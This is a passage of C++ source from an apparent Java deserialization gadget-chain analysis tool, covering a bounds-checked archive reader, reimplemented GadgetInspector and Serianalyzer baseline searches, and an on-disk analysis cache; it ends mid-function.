      if (!fflags.ok()) return fflags.error();
      f.mods = unpack_mods(fflags.value());
      cls.fields.push_back(std::move(f));
    }

    auto method_count = in_.count("method");
    if (!method_count.ok()) return method_count.error();
    for (std::size_t i = 0; i < method_count.value(); ++i) {
      auto m = read_method();
      if (!m.ok()) return m.error();
      cls.methods.push_back(std::move(m.value()));
    }
    return cls;
  }

  Result<jir::Method> read_method() {
    jir::Method m;
    auto name = str();
    if (!name.ok()) return name.error();
    m.name = std::move(name.value());
    auto flags = in_.u8();
    if (!flags.ok()) return flags.error();
    m.mods = unpack_mods(flags.value());
    auto ret = type();
    if (!ret.ok()) return ret.error();
    m.ret = std::move(ret.value());

    auto param_count = in_.count("parameter");
    if (!param_count.ok()) return param_count.error();
    for (std::size_t i = 0; i < param_count.value(); ++i) {
      auto p = type();
      if (!p.ok()) return p.error();
      m.params.push_back(std::move(p.value()));
    }

    auto stmt_count = in_.count("statement");
    if (!stmt_count.ok()) return stmt_count.error();
    for (std::size_t i = 0; i < stmt_count.value(); ++i) {
      auto s = read_stmt();
      if (!s.ok()) return s.error();
      m.body.push_back(std::move(s.value()));
    }
    return m;
  }

  Result<jir::Stmt> read_stmt() {
    auto op = in_.u8();
    if (!op.ok()) return op.error();
    switch (op.value()) {
      case kAssign: {
        auto t = str(), s = str();
        if (!t.ok()) return t.error();
        if (!s.ok()) return s.error();
        return jir::Stmt{jir::AssignStmt{std::move(t.value()), std::move(s.value())}};
      }
      case kConst: {
        auto t = str();
        if (!t.ok()) return t.error();
        auto tag = in_.u8();
        if (!tag.ok()) return tag.error();
        switch (tag.value()) {
          case 0:
            return jir::Stmt{jir::ConstStmt{std::move(t.value()), jir::Const::null()}};
          case 1: {
            auto v = in_.svarint();
            if (!v.ok()) return v.error();
            return jir::Stmt{jir::ConstStmt{std::move(t.value()), jir::Const::of(v.value())}};
          }
          case 2: {
            auto v = str();
            if (!v.ok()) return v.error();
            return jir::Stmt{
                jir::ConstStmt{std::move(t.value()), jir::Const::of(std::move(v.value()))}};
          }
          default:
            return Error{"bad const tag", in_.position()};
        }
      }
      case kNew: {
        auto t = str();
        if (!t.ok()) return t.error();
        auto ty = type();
        if (!ty.ok()) return ty.error();
        return jir::Stmt{jir::NewStmt{std::move(t.value()), std::move(ty.value())}};
      }
      case kFieldStore: {
        auto b = str(), f = str(), s = str();
        if (!b.ok()) return b.error();
        if (!f.ok()) return f.error();
        if (!s.ok()) return s.error();
        return jir::Stmt{jir::FieldStoreStmt{std::move(b.value()), std::move(f.value()),
                                             std::move(s.value())}};
      }
      case kFieldLoad: {
        auto t = str(), b = str(), f = str();
        if (!t.ok()) return t.error();
        if (!b.ok()) return b.error();
        if (!f.ok()) return f.error();
        return jir::Stmt{jir::FieldLoadStmt{std::move(t.value()), std::move(b.value()),
                                            std::move(f.value())}};
      }
      case kStaticStore: {
        auto o = str(), f = str(), s = str();
        if (!o.ok()) return o.error();
        if (!f.ok()) return f.error();
        if (!s.ok()) return s.error();
        return jir::Stmt{jir::StaticStoreStmt{std::move(o.value()), std::move(f.value()),
                                              std::move(s.value())}};
      }
      case kStaticLoad: {
        auto t = str(), o = str(), f = str();
        if (!t.ok()) return t.error();
        if (!o.ok()) return o.error();
        if (!f.ok()) return f.error();
        return jir::Stmt{jir::StaticLoadStmt{std::move(t.value()), std::move(o.value()),
                                             std::move(f.value())}};
      }
      case kArrayStore: {
        auto b = str(), i = str(), s = str();
        if (!b.ok()) return b.error();
        if (!i.ok()) return i.error();
        if (!s.ok()) return s.error();
        return jir::Stmt{jir::ArrayStoreStmt{std::move(b.value()), std::move(i.value()),
                                             std::move(s.value())}};
      }
      case kArrayLoad: {
        auto t = str(), b = str(), i = str();
        if (!t.ok()) return t.error();
        if (!b.ok()) return b.error();
        if (!i.ok()) return i.error();
        return jir::Stmt{jir::ArrayLoadStmt{std::move(t.value()), std::move(b.value()),
                                            std::move(i.value())}};
      }
      case kCast: {
        auto t = str();
        if (!t.ok()) return t.error();
        auto ty = type();
        if (!ty.ok()) return ty.error();
        auto s = str();
        if (!s.ok()) return s.error();
        return jir::Stmt{jir::CastStmt{std::move(t.value()), std::move(ty.value()),
                                       std::move(s.value())}};
      }
      case kReturn: {
        auto v = str();
        if (!v.ok()) return v.error();
        return jir::Stmt{jir::ReturnStmt{std::move(v.value())}};
      }
      case kInvoke: {
        jir::InvokeStmt inv;
        auto t = str();
        if (!t.ok()) return t.error();
        inv.target = std::move(t.value());
        auto kind = in_.u8();
        if (!kind.ok()) return kind.error();
        if (kind.value() > 3) return Error{"bad invoke kind", in_.position()};
        inv.kind = static_cast<jir::InvokeKind>(kind.value());
        auto owner = str(), name = str(), base = str();
        if (!owner.ok()) return owner.error();
        if (!name.ok()) return name.error();
        if (!base.ok()) return base.error();
        inv.callee.owner = std::move(owner.value());
        inv.callee.name = std::move(name.value());
        inv.base = std::move(base.value());
        auto argc = in_.count("invoke argument");
        if (!argc.ok()) return argc.error();
        for (std::size_t i = 0; i < argc.value(); ++i) {
          auto a = str();
          if (!a.ok()) return a.error();
          inv.args.push_back(std::move(a.value()));
        }
        inv.callee.nargs = static_cast<int>(inv.args.size());
        return jir::Stmt{std::move(inv)};
      }
      case kIf: {
        jir::IfStmt s;
        auto lhs = str();
        if (!lhs.ok()) return lhs.error();
        s.lhs = std::move(lhs.value());
        auto cmp = in_.u8();
        if (!cmp.ok()) return cmp.error();
        if (cmp.value() > 5) return Error{"bad comparison op", in_.position()};
        s.op = static_cast<jir::CmpOp>(cmp.value());
        auto rhs = str(), label = str();
        if (!rhs.ok()) return rhs.error();
        if (!label.ok()) return label.error();
        s.rhs = std::move(rhs.value());
        s.target_label = std::move(label.value());
        return jir::Stmt{std::move(s)};
      }
      case kGoto: {
        auto label = str();
        if (!label.ok()) return label.error();
        return jir::Stmt{jir::GotoStmt{std::move(label.value())}};
      }
      case kLabel: {
        auto label = str();
        if (!label.ok()) return label.error();
        return jir::Stmt{jir::LabelStmt{std::move(label.value())}};
      }
      case kThrow: {
        auto v = str();
        if (!v.ok()) return v.error();
        return jir::Stmt{jir::ThrowStmt{std::move(v.value())}};
      }
      case kNop:
        return jir::Stmt{jir::NopStmt{}};
      default:
        return Error{"unknown opcode " + std::to_string(op.value()), in_.position()};
    }
  }

  util::ByteReader in_;
  std::size_t size_ = 0;
  std::vector<std::string> pool_;
};

}  // namespace

std::vector<std::byte> write_archive(const Archive& archive) { return Writer(archive).write(); }

util::Result<Archive> read_archive(std::span<const std::byte> data) {
  if (util::failpoint::poll("jar.decode")) {
    return util::Error{"failpoint: injected archive decode failure", 0};
  }
  return Reader(data).read();
}

Archive read_archive_salvage(std::span<const std::byte> data, DecodeDegradation& degradation) {
  degradation = DecodeDegradation{};
  if (util::failpoint::poll("jar.decode")) {
    degradation.error = util::Error{"failpoint: injected archive decode failure", 0};
    degradation.bytes_skipped = data.size();
    return Archive{};
  }
  return Reader(data).read_salvage(degradation);
}

util::Status write_archive_file(const Archive& archive, const std::filesystem::path& path) {
  std::vector<std::byte> bytes = write_archive(archive);
  std::ofstream out(path, std::ios::binary);
  if (!out) return Error{"cannot open for write: " + path.string()};
  out.write(reinterpret_cast<const char*>(bytes.data()),
            static_cast<std::streamsize>(bytes.size()));
  if (!out) return Error{"write failed: " + path.string()};
  return util::Status::ok_status();
}

util::Result<Archive> read_archive_file(const std::filesystem::path& path) {
  auto bytes = util::read_file(path);
  if (!bytes.ok()) return bytes.error();
  return read_archive(bytes.value());
}

std::vector<util::Result<Archive>> read_archive_files(
    const std::vector<std::filesystem::path>& paths, util::Executor* executor) {
  std::vector<util::Result<Archive>> results;
  results.reserve(paths.size());
  for (std::size_t i = 0; i < paths.size(); ++i) {
    results.push_back(Error{"not read"});
  }
  util::run_indexed(executor, paths.size(), [&](std::size_t i) {
    obs::Span span("jar.decode");
    if (span.active()) span.attr("path", paths[i].string());
    results[i] = read_archive_file(paths[i]);
    if (results[i].ok()) obs::counter_add("jar.archives_decoded");
  });
  return results;
}

std::vector<SalvagedFile> read_archive_files_salvage(
    const std::vector<std::filesystem::path>& paths, util::Executor* executor,
    const util::Deadline& deadline) {
  std::vector<SalvagedFile> results(paths.size());
  util::run_indexed(executor, paths.size(), [&](std::size_t i) {
    obs::Span span("jar.decode");
    if (span.active()) span.attr("path", paths[i].string());
    // Cooperative cancellation: entries whose turn comes after expiry are
    // skipped whole and say so, rather than racing the clock mid-decode.
    if (!deadline.unlimited() && deadline.expired()) {
      results[i].read_error = util::Error{"deadline exceeded before reading " + paths[i].string()};
      results[i].deadline_skipped = true;
      return;
    }
    auto bytes = util::read_file(paths[i]);
    if (!bytes.ok()) {
      results[i].read_error = bytes.error();
      return;
    }
    results[i].archive = read_archive_salvage(bytes.value(), results[i].degradation);
    if (results[i].clean()) obs::counter_add("jar.archives_decoded");
  });
  return results;
}

jir::Program link(const std::vector<Archive>& classpath, std::size_t* duplicates_skipped) {
  obs::Span span("jar.link");
  span.attr("archives", static_cast<std::uint64_t>(classpath.size()));
  jir::Program program;
  std::size_t skipped = 0;
  for (const Archive& archive : classpath) {
    for (const jir::ClassDecl& cls : archive.classes) {
      if (program.find_class(cls.name) != nullptr) {
        ++skipped;  // classpath order: first definition wins
        continue;
      }
      program.add_class(cls);
    }
  }
  if (duplicates_skipped != nullptr) *duplicates_skipped = skipped;
  obs::counter_add("jar.classes_linked", program.class_count());
  return program;
}

}  // namespace tabby::jar
