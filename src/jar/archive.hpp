// TJAR: the binary class-archive format standing in for Java Jar files.
// A TJAR holds archive metadata (name/version, like a Jar manifest) plus a
// set of JIR classes encoded against a shared string pool. The reader is
// fully bounds-checked: corrupt input yields an Error, never UB.
//
// Layout (all multi-byte integers little-endian, varints LEB128):
//   magic  u32  = 0x544A4152 ("TJAR")
//   version u16 = 1
//   name    string        archive (jar) name
//   verstr  string        archive version string
//   pool    uvarint n, then n strings
//   classes uvarint n, then n class records (see archive.cpp)
#pragma once

#include <filesystem>
#include <optional>
#include <span>
#include <string>
#include <vector>

#include "jir/model.hpp"
#include "util/deadline.hpp"
#include "util/result.hpp"

namespace tabby::util {
class Executor;
}

namespace tabby::jar {

struct ArchiveMeta {
  std::string name;
  std::string version;
};

struct Archive {
  ArchiveMeta meta;
  std::vector<jir::ClassDecl> classes;

  std::size_t method_count() const {
    std::size_t n = 0;
    for (const auto& c : classes) n += c.methods.size();
    return n;
  }
};

inline constexpr std::uint32_t kTjarMagic = 0x544A4152;
inline constexpr std::uint16_t kTjarVersion = 1;

/// Serialize an archive to bytes.
std::vector<std::byte> write_archive(const Archive& archive);

/// Parse an archive from untrusted bytes.
util::Result<Archive> read_archive(std::span<const std::byte> data);

/// What a fail-soft decode lost. `error` is unset when the decode was
/// clean; when set, the archive in hand holds only the classes decoded
/// before the first corrupt record (possibly none — header or string-pool
/// corruption loses the whole archive, since every later record indexes
/// the pool).
struct DecodeDegradation {
  std::optional<util::Error> error;
  std::size_t classes_kept = 0;
  std::size_t classes_dropped = 0;  // declared in the header but unrecovered
  std::size_t bytes_skipped = 0;    // unread stream suffix after the fault
};

/// Fail-soft decode for quarantine mode: never fails, instead salvages the
/// longest clean prefix of classes and reports what was dropped. A clean
/// input decodes exactly like read_archive.
Archive read_archive_salvage(std::span<const std::byte> data, DecodeDegradation& degradation);

/// File convenience wrappers.
util::Status write_archive_file(const Archive& archive, const std::filesystem::path& path);
util::Result<Archive> read_archive_file(const std::filesystem::path& path);

/// Reads several archive files, one result per path in input order. Each
/// file is read and decoded independently, so with an executor the decode
/// work fans out across workers (classpath loading is the first pipeline
/// stage and embarrassingly parallel).
std::vector<util::Result<Archive>> read_archive_files(
    const std::vector<std::filesystem::path>& paths, util::Executor* executor = nullptr);

/// One classpath entry after a fail-soft read+decode.
struct SalvagedFile {
  Archive archive;
  DecodeDegradation degradation;          // decode-level loss, when any
  std::optional<util::Error> read_error;  // unreadable / deadline-skipped: total loss
  bool deadline_skipped = false;          // read_error came from the deadline, not IO

  bool clean() const { return !read_error.has_value() && !degradation.error.has_value(); }
};

/// Fail-soft sibling of read_archive_files for quarantine mode: unreadable
/// files and corrupt records degrade per-entry instead of failing the
/// batch. Entries whose read had not started when `deadline` expired are
/// skipped with a read_error naming the deadline (cooperative cancellation
/// through the ThreadPool fan-out).
std::vector<SalvagedFile> read_archive_files_salvage(
    const std::vector<std::filesystem::path>& paths, util::Executor* executor = nullptr,
    const util::Deadline& deadline = {});

/// Links archives into one closed-world Program, classpath style: when two
/// archives define the same class, the first archive on the path wins.
/// Returns the number of duplicate classes skipped via `duplicates_skipped`
/// when non-null.
jir::Program link(const std::vector<Archive>& classpath, std::size_t* duplicates_skipped = nullptr);

}  // namespace tabby::jar
