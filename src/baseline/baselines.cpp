#include "baseline/baselines.hpp"

#include <algorithm>
#include <unordered_set>

#include "analysis/domain.hpp"
#include "cpg/builder.hpp"
#include "cpg/schema.hpp"
#include "util/strings.hpp"
#include "util/timer.hpp"

namespace tabby::baseline {

namespace {

using graph::Edge;
using graph::EdgeId;
using graph::GraphDb;
using graph::NodeId;

/// CPG flavour shared by both baselines: weak (intraprocedural, permissive)
/// analysis, no PCG pruning, superclass-only aliases.
cpg::Cpg build_baseline_cpg(const jir::Program& program) {
  cpg::CpgOptions options;
  options.prune_uncontrollable_calls = false;
  options.alias_superclass_only = true;
  options.analysis.interprocedural = false;
  options.analysis.unknown_return_controllable = true;
  return cpg::build_cpg(program, options);
}

bool edge_has_taint(const GraphDb& db, EdgeId eid) {
  const Edge& e = db.edge(eid);
  const graph::Value* v = e.prop(std::string(cpg::kPropPollutedPosition));
  const auto* pp = v != nullptr ? std::get_if<std::vector<std::int64_t>>(v) : nullptr;
  if (pp == nullptr) return false;
  for (std::int64_t w : *pp) {
    if (analysis::is_controllable(w)) return true;
  }
  return false;
}

finder::GadgetChain chain_from_nodes(const GraphDb& db, const std::vector<NodeId>& nodes) {
  finder::GadgetChain chain;
  chain.nodes = nodes;
  for (NodeId n : nodes) {
    chain.signatures.push_back(db.node(n).prop_string(std::string(cpg::kPropSignature)));
  }
  chain.sink_type = db.node(nodes.back()).prop_string(std::string(cpg::kPropSinkType));
  return chain;
}

}  // namespace

BaselineReport run_gadget_inspector(const jir::Program& program,
                                    const GadgetInspectorOptions& options) {
  util::Stopwatch watch;
  BaselineReport report;
  cpg::Cpg cpg = build_baseline_cpg(program);
  const GraphDb& db = cpg.db;

  std::vector<NodeId> sources = db.find_nodes(std::string(cpg::kMethodLabel),
                                              std::string(cpg::kPropIsSource), graph::Value{true});
  std::sort(sources.begin(), sources.end());

  // Global visited set shared across every source (the §IV-F defect). Sink
  // nodes are exempt so distinct chains into the same sink all surface.
  std::vector<bool> visited(db.node_capacity(), false);

  for (NodeId source : sources) {
    // Iterative DFS carrying the path.
    std::vector<std::vector<NodeId>> stack{{source}};
    while (!stack.empty()) {
      std::vector<NodeId> path = std::move(stack.back());
      stack.pop_back();
      NodeId frontier = path.back();

      const graph::Node& node = db.node(frontier);
      bool is_sink = node.prop_bool(std::string(cpg::kPropIsSink));
      if (is_sink && path.size() > 1) {
        report.chains.push_back(chain_from_nodes(db, path));
        continue;
      }
      if (!is_sink) {
        if (visited[frontier]) continue;
        visited[frontier] = true;
      }
      if (static_cast<int>(path.size()) > options.max_depth) continue;

      auto push = [&](NodeId next) {
        if (std::find(path.begin(), path.end(), next) != path.end()) return;
        std::vector<NodeId> extended = path;
        extended.push_back(next);
        stack.push_back(std::move(extended));
      };

      for (EdgeId eid : db.out_edges(frontier)) {
        const Edge& e = db.edge(eid);
        if (e.type == cpg::kCallEdge && edge_has_taint(db, eid)) push(e.to);
      }
      // Forward dispatch through superclass overrides: a call resolved to a
      // superclass declaration may run any subclass override, which GI
      // models by following ALIAS edges in reverse.
      for (EdgeId eid : db.in_edges(frontier)) {
        const Edge& e = db.edge(eid);
        if (e.type == cpg::kAliasEdge) push(e.from);
      }
    }
  }
  report.seconds = watch.elapsed_seconds();
  return report;
}

BaselineReport run_serianalyzer(const jir::Program& program, const SerianalyzerOptions& options) {
  util::Stopwatch watch;
  BaselineReport report;
  cpg::Cpg cpg = build_baseline_cpg(program);

  finder::FinderOptions finder_options;
  finder_options.max_depth = options.max_depth;
  finder_options.check_trigger_conditions = false;  // no controllability at all
  finder_options.max_results_per_sink = options.max_results;
  finder_options.max_expansions = options.max_expansions;

  finder::GadgetChainFinder finder(cpg.db, finder_options);
  finder::FinderReport raw = finder.find_all();
  // Non-termination model: either the expansion budget drained, or the raw
  // chain count saturated the per-sink result cap (the tool "would have"
  // kept emitting paths far past any acceptable runtime).
  report.exploded = raw.budget_exhausted || raw.chains.size() >= options.max_results;

  if (report.exploded) {
    // The paper reports no output at all for non-terminating runs.
    report.chains.clear();
  } else if (!options.package_filter.empty()) {
    for (finder::GadgetChain& chain : raw.chains) {
      bool mentions_package = false;
      for (const std::string& sig : chain.signatures) {
        if (util::starts_with(sig, options.package_filter)) {
          mentions_package = true;
          break;
        }
      }
      if (mentions_package) report.chains.push_back(std::move(chain));
    }
  } else {
    report.chains = std::move(raw.chains);
  }
  report.seconds = watch.elapsed_seconds();
  return report;
}

}  // namespace tabby::baseline
