// Re-implementations of the two compared tools' decision procedures, with
// the defects §IV-F of the paper identifies:
//
// GadgetInspector-like:
//   - forward taint search from deserialization sources,
//   - polymorphism resolved through superclass chains only (interface
//     dispatch is invisible),
//   - intraprocedural taint with permissive call defaults ("default to it
//     not changing (still controllable)"),
//   - visited-method skipping across the whole search (shared middles lose
//     all but one chain).
//
// Serianalyzer-like:
//   - backward reachability from sinks on the *unpruned* call graph,
//   - no argument-controllability (Trigger_Condition) checking,
//   - superclass-only polymorphism,
//   - a search budget whose exhaustion reproduces the paper's "X"
//     (process-not-terminated) cells.
#pragma once

#include <string>

#include "finder/finder.hpp"
#include "jir/model.hpp"

namespace tabby::baseline {

struct BaselineReport {
  std::vector<finder::GadgetChain> chains;
  bool exploded = false;   // budget exhausted (Serianalyzer "X")
  double seconds = 0.0;    // analysis + search wall time
};

struct GadgetInspectorOptions {
  int max_depth = 12;
};

BaselineReport run_gadget_inspector(const jir::Program& program,
                                    const GadgetInspectorOptions& options = {});

struct SerianalyzerOptions {
  int max_depth = 12;
  std::size_t max_results = 4096;
  /// Expansion budget before the run is declared non-terminating.
  std::size_t max_expansions = 400'000;
  /// The paper filters Serianalyzer output to chains mentioning the analysed
  /// component's package (its raw output is "often in the hundreds").
  std::string package_filter;
};

BaselineReport run_serianalyzer(const jir::Program& program,
                                const SerianalyzerOptions& options = {});

}  // namespace tabby::baseline
