#include "cache/cache.hpp"

#include <algorithm>
#include <charconv>
#include <chrono>
#include <fstream>
#include <map>
#include <set>
#include <thread>

#include "graph/frozen.hpp"
#include "graph/serialize.hpp"
#include "jir/printer.hpp"
#include "obs/obs.hpp"
#include "util/bytes.hpp"
#include "util/digest.hpp"
#include "util/failpoint.hpp"
#include "util/fs.hpp"
#include "util/rng.hpp"

namespace tabby::cache {

namespace {

namespace fs = std::filesystem;

using util::ByteReader;
using util::ByteWriter;
using util::Error;
using util::Result;

Result<std::vector<std::byte>> read_file_bytes(const fs::path& path) {
  return util::read_file(path);
}

/// One write+rename attempt. The `cache.publish.rename` failpoint models a
/// transient publish fault (NFS rename hiccup, AV scanner holding the
/// target) — exactly what the retry loop below exists to absorb.
util::Status write_file_atomic_once(const fs::path& path, const std::vector<std::byte>& bytes) {
  fs::path tmp = path;
  tmp += ".tmp";
  {
    std::ofstream out(tmp, std::ios::binary | std::ios::trunc);
    if (!out) return Error{"cannot open for write: " + tmp.string()};
    out.write(reinterpret_cast<const char*>(bytes.data()),
              static_cast<std::streamsize>(bytes.size()));
    if (!out) return Error{"write failed: " + tmp.string()};
  }
  std::error_code ec;
  if (util::failpoint::poll("cache.publish.rename")) {
    fs::remove(tmp, ec);
    return Error{"failpoint: injected publish failure: " + path.string()};
  }
  fs::rename(tmp, path, ec);
  if (ec) {
    fs::remove(tmp, ec);
    return Error{"cannot publish cache entry: " + path.string()};
  }
  return util::Status::ok_status();
}

/// Atomic publish with bounded retry: a half-written cache entry must never
/// be observable, so concurrent runs either see a whole entry or none.
/// Transient IO faults are retried up to 3 attempts total with jittered
/// backoff (~1ms, ~2ms); a still-failing publish returns the last error,
/// which every caller downgrades (fragment: silent cold decode; snapshot: a
/// warning) — cache publication is never a run failure.
util::Status write_file_atomic(const fs::path& path, const std::vector<std::byte>& bytes) {
  constexpr int kAttempts = 3;
  util::Status status = util::Status::ok_status();
  for (int attempt = 1; attempt <= kAttempts; ++attempt) {
    status = write_file_atomic_once(path, bytes);
    if (status.ok()) return status;
    if (attempt == kAttempts) break;
    obs::counter_add("cache.publish_retries");
    std::this_thread::sleep_for(publish_backoff(path.string(), attempt));
  }
  return status;
}

/// Shared entry framing: magic + version + body + FNV-1a64 checksum. The
/// same fail-closed discipline as the graph store, except a bad entry is a
/// cache miss, not an error.
std::vector<std::byte> frame_entry(std::uint32_t magic, std::uint16_t version,
                                   const ByteWriter& body) {
  ByteWriter out;
  out.u32(magic);
  out.u16(version);
  for (std::byte b : body.data()) out.u8(static_cast<std::uint8_t>(b));
  out.u64(util::fnv1a(out.data()));
  return std::vector<std::byte>(out.data());
}

/// Validates the frame and returns the body span, or nullopt (miss).
std::optional<std::span<const std::byte>> open_entry(std::span<const std::byte> data,
                                                     std::uint32_t magic,
                                                     std::uint16_t version) {
  constexpr std::size_t kFrameOverhead = 4 + 2 + 8;
  if (data.size() < kFrameOverhead) return std::nullopt;
  ByteReader head(data);
  auto m = head.u32();
  auto v = head.u16();
  if (!m.ok() || !v.ok() || m.value() != magic || v.value() != version) return std::nullopt;
  ByteReader tail(data.subspan(data.size() - 8));
  auto stored = tail.u64();
  if (!stored.ok()) return std::nullopt;
  if (stored.value() != util::fnv1a(data.first(data.size() - 8))) return std::nullopt;
  return data.subspan(4 + 2, data.size() - kFrameOverhead);
}

/// Decodes a verdict frame; nullopt on any structural problem or a stored
/// key that does not match the caller's — every such case is a self-healing
/// miss, never an error.
std::optional<CachedVerdict> decode_verdict_entry(std::span<const std::byte> data,
                                                  std::uint64_t expected_key) {
  auto body = open_entry(data, kVerdictMagic, kVerdictVersion);
  if (!body) return std::nullopt;
  ByteReader in(*body);
  auto stored_key = in.u64();
  if (!stored_key.ok() || stored_key.value() != expected_key) return std::nullopt;
  auto verdict = in.u8();
  auto reason = in.u8();
  if (!verdict.ok() || !reason.ok() || verdict.value() > 2 || reason.value() > 4) {
    return std::nullopt;
  }
  auto steps = in.uvarint();
  if (!steps.ok()) return std::nullopt;
  auto detail = in.bytes();
  if (!detail.ok() || !in.at_end()) return std::nullopt;
  CachedVerdict out;
  out.verdict = verdict.value();
  out.reason = reason.value();
  out.steps = steps.value();
  out.detail = std::move(detail.value());
  return out;
}

void write_stats(ByteWriter& out, const cpg::CpgStats& stats) {
  out.uvarint(stats.class_nodes);
  out.uvarint(stats.method_nodes);
  out.uvarint(stats.relationship_edges);
  out.uvarint(stats.call_edges);
  out.uvarint(stats.alias_edges);
  out.uvarint(stats.pruned_call_sites);
  out.uvarint(stats.source_methods);
  out.uvarint(stats.sink_methods);
  std::uint64_t bits;
  static_assert(sizeof bits == sizeof stats.build_seconds);
  __builtin_memcpy(&bits, &stats.build_seconds, sizeof bits);
  out.u64(bits);
}

std::optional<cpg::CpgStats> read_stats(ByteReader& in) {
  cpg::CpgStats stats;
  std::size_t* fields[] = {&stats.class_nodes,       &stats.method_nodes,
                           &stats.relationship_edges, &stats.call_edges,
                           &stats.alias_edges,        &stats.pruned_call_sites,
                           &stats.source_methods,     &stats.sink_methods};
  for (std::size_t* field : fields) {
    auto v = in.uvarint();
    if (!v.ok()) return std::nullopt;
    *field = static_cast<std::size_t>(v.value());
  }
  auto bits = in.u64();
  if (!bits.ok()) return std::nullopt;
  std::uint64_t raw = bits.value();
  __builtin_memcpy(&stats.build_seconds, &raw, sizeof raw);
  return stats;
}

}  // namespace

std::string CacheStats::to_line() const {
  std::string line = "cache: ";
  if (snapshot_checked) {
    line += std::string("snapshot ") + (snapshot_hit ? "hit" : "miss") + " (key " +
            util::digest_hex(snapshot_key) + ")";
  } else {
    line += "snapshot not consulted";
  }
  std::size_t total = fragment_hits + fragment_misses;
  if (total > 0) {
    line += ", fragments " + std::to_string(fragment_hits) + "/" + std::to_string(total) + " hit";
  }
  return line;
}

Result<AnalysisCache> AnalysisCache::open(const fs::path& dir) {
  std::error_code ec;
  fs::create_directories(dir / "fragments", ec);
  if (ec) return Error{"cannot create cache directory: " + (dir / "fragments").string()};
  fs::create_directories(dir / "snapshots", ec);
  if (ec) return Error{"cannot create cache directory: " + (dir / "snapshots").string()};
  fs::create_directories(dir / "verdicts", ec);
  if (ec) return Error{"cannot create cache directory: " + (dir / "verdicts").string()};
  return AnalysisCache(dir);
}

Result<std::uint64_t> AnalysisCache::digest_file(const fs::path& file) {
  auto bytes = read_file_bytes(file);
  if (!bytes.ok()) return bytes.error();
  return util::fnv1a(bytes.value());
}

std::uint64_t AnalysisCache::snapshot_key(std::uint64_t options_fp,
                                          const std::vector<std::uint64_t>& archive_digests) {
  util::Fnv1a h;
  h.update("tabby-snapshot-key-v1");
  h.update_u64(graph::kGraphStoreVersion);
  h.update_u64(options_fp);
  h.update_u64(archive_digests.size());
  for (std::uint64_t digest : archive_digests) h.update_u64(digest);
  return h.digest();
}

fs::path AnalysisCache::fragment_path(std::uint64_t digest) const {
  return dir_ / "fragments" / (util::digest_hex(digest) + ".tfrag");
}

fs::path AnalysisCache::snapshot_path(std::uint64_t key) const {
  return dir_ / "snapshots" / (util::digest_hex(key) + ".tsnp");
}

fs::path AnalysisCache::frozen_path(std::uint64_t key) const {
  return dir_ / "snapshots" / (util::digest_hex(key) + ".tfzn");
}

fs::path AnalysisCache::verdict_path(std::uint64_t key) const {
  return dir_ / "verdicts" / (util::digest_hex(key) + ".tvdt");
}

Result<LoadedArchive> AnalysisCache::load_archive(const fs::path& file) {
  obs::Span span("cache.load_archive");
  if (span.active()) span.attr("path", file.string());
  auto raw = read_file_bytes(file);
  if (!raw.ok()) return raw.error();
  LoadedArchive loaded;
  loaded.digest = util::fnv1a(raw.value());

  // Fragment hit: decode the canonical re-encoding instead of the original.
  fs::path frag = fragment_path(loaded.digest);
  if (auto frag_bytes = read_file_bytes(frag); frag_bytes.ok()) {
    if (auto body = open_entry(frag_bytes.value(), kFragmentMagic, kFragmentVersion)) {
      ByteReader in(*body);
      auto source_digest = in.u64();
      auto n_classes = in.count("fragment class fingerprint");
      bool intact = source_digest.ok() && source_digest.value() == loaded.digest && n_classes.ok();
      for (std::size_t i = 0; intact && i < n_classes.value(); ++i) intact = in.uvarint().ok();
      if (intact) {
        if (auto len = in.count("fragment archive blob"); len.ok() && len.value() <= in.remaining()) {
          auto archive = jar::read_archive(body->subspan(in.position(), len.value()));
          if (archive.ok()) {
            ++stats_.fragment_hits;
            obs::counter_add("cache.fragment_hits");
            loaded.archive = std::move(archive.value());
            loaded.from_fragment = true;
            return loaded;
          }
        }
      }
    }
  }

  // Miss: decode the original bytes and publish the fragment (best effort —
  // a read-only cache directory degrades to a plain cold run).
  auto archive = jar::read_archive(raw.value());
  if (!archive.ok()) return archive.error();
  ++stats_.fragment_misses;
  obs::counter_add("cache.fragment_misses");
  loaded.archive = std::move(archive.value());

  ByteWriter body;
  body.u64(loaded.digest);
  body.uvarint(loaded.archive.classes.size());
  for (const jir::ClassDecl& cls : loaded.archive.classes) {
    body.uvarint(jir::stable_fingerprint(cls));
  }
  std::vector<std::byte> encoded = jar::write_archive(loaded.archive);
  body.uvarint(encoded.size());
  for (std::byte b : encoded) body.u8(static_cast<std::uint8_t>(b));
  // Best effort: a failed fragment publish (read-only cache dir, injected
  // fault) only costs the next run a re-decode.
  if (!util::failpoint::poll("cache.fragment.publish")) {
    (void)write_file_atomic(frag, frame_entry(kFragmentMagic, kFragmentVersion, body));
  }
  return loaded;
}

std::optional<CachedCpg> AnalysisCache::load_snapshot(std::uint64_t key, bool need_db) {
  obs::Span span("cache.load_snapshot");
  if (span.active()) span.attr("key", util::digest_hex(key));
  stats_.snapshot_checked = true;
  stats_.snapshot_key = key;
  stats_.snapshot_hit = false;

  // Every early return below is a miss; count it on the way out so the
  // hit/miss counters stay in lockstep with stats_.
  struct MissCounter {
    bool hit = false;
    ~MissCounter() { obs::counter_add(hit ? "cache.snapshot_hits" : "cache.snapshot_misses"); }
  } outcome;

  auto bytes = read_file_bytes(snapshot_path(key));
  if (!bytes.ok()) return std::nullopt;
  // Account the snapshot file buffer for as long as this function pins it;
  // on success ownership (and the byte liability) passes to the caller.
  util::ScopedCharge buffer_charge(memory_, bytes.value().size());

  // Snapshot layout differs from the shared frame: the checksum covers only
  // the header (magic .. blob length), because the graph blob that follows
  // is a complete self-checksummed graph store — deserialize() rejects any
  // corruption in it, so hashing those megabytes twice buys nothing.
  ByteReader in(bytes.value());
  auto magic = in.u32();
  auto version = in.u16();
  if (!magic.ok() || !version.ok() || magic.value() != kSnapshotMagic ||
      version.value() != kSnapshotVersion) {
    return std::nullopt;
  }
  auto stored_key = in.u64();
  if (!stored_key.ok() || stored_key.value() != key) return std::nullopt;
  auto stats = read_stats(in);
  if (!stats) return std::nullopt;
  auto len = in.count("snapshot graph blob");
  if (!len.ok()) return std::nullopt;
  std::uint64_t header_sum =
      util::fnv1a(std::span<const std::byte>(bytes.value()).first(in.position()));
  auto stored_sum = in.u64();
  if (!stored_sum.ok() || stored_sum.value() != header_sum) return std::nullopt;
  if (len.value() != in.remaining()) return std::nullopt;

  CachedCpg cached;
  cached.stats = *stats;
  // Reuse the file buffer instead of copying the multi-megabyte blob: shear
  // off the header so what remains is exactly the embedded graph store.
  std::size_t blob_offset = in.position();
